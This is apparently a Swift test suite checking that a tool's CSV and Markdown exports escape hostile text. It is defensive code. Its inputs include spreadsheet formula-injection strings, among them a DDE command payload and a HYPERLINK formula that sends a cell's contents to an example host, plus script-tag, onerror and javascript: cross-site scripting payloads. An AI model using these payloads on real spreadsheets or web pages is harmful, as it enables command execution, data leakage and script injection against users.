import Testing

/// Text that does harm where it is exported to.
@Suite("Hostile corpus: exports") struct HostileExports {
  @Test("no cell of a spreadsheet is a formula, and each comes back whole")
  func formulas() throws {
    let lines = [
      "=HYPERLINK(\"http://example.invalid?\"&A1)", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
      "=cmd|' /C calc'!A0", "a,b;c\td\"e\"\"", "\u{FF1D}1+1",
    ]
    let bytes = Array(lines.joined(separator: "\n").utf8)
    let workplace = try Workplace(article: "csv_formula.txt", bytes)
    let outcome = try workplace.run(["news", "--format", "csv", "-c", "show 1"])
    let rows = try #require(SeparatedValues.rows(of: outcome.outputBytes))
    #expect(rows.count > 5)
    for cell in rows.dropFirst().joined() {
      #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first), "\(cell)")
    }
    let column = try #require(rows.first?.firstIndex(of: "text"))
    let texts = rows.dropFirst().map { $0[column] }
    // What was put before a formula, so that it is none, is one apostrophe.
    let back = texts.map { $0.hasPrefix("'") ? String($0.dropFirst()) : $0 }
    #expect(back.contains("=cmd|' /C calc'!A0\na,b;c\td\"e\"\""))
  }

  @Test("a tag is escaped in Markdown")
  func tags() throws {
    let text =
      "<script>alert(1)</script> \"'><img src=x onerror=alert(1)> &lt; ]]> --> </textarea>\n"
    let workplace = try Workplace(article: "html.txt", Array(text.utf8))
    let markdown = try workplace.run(["news", "--format", "markdown", "-c", "show 1"]).output
    #expect(markdown.contains("alert(1)"))
    #expect(!markdown.contains("<script") && !markdown.contains("<img"))
  }

  @Test("Markdown's own signs are escaped, and nothing is a format")
  func markdown() throws {
    let text = "[x](javascript:alert(1)) | a | b | ``` # h\n* _x_ \\ {{ }} %s %n $HOME"
    let workplace = try Workplace(article: "md.txt", Array(text.utf8))
    let outcome = try workplace.run(["news", "--format", "markdown", "-c", "show 1"])
    let table = outcome.lines.filter { $0.hasPrefix("|") }
    // Cells are parted by bars that no backslash stands before.
    let widths = Set(table.map { $0.replacing("\\|", with: "").count { $0 == "|" } })
    #expect(table.count >= 3 && widths.count == 1, "\(table)")
    #expect(outcome.output.contains("%s %n $HOME"))
    #expect(!outcome.output.contains("[x](javascript"))
  }
}
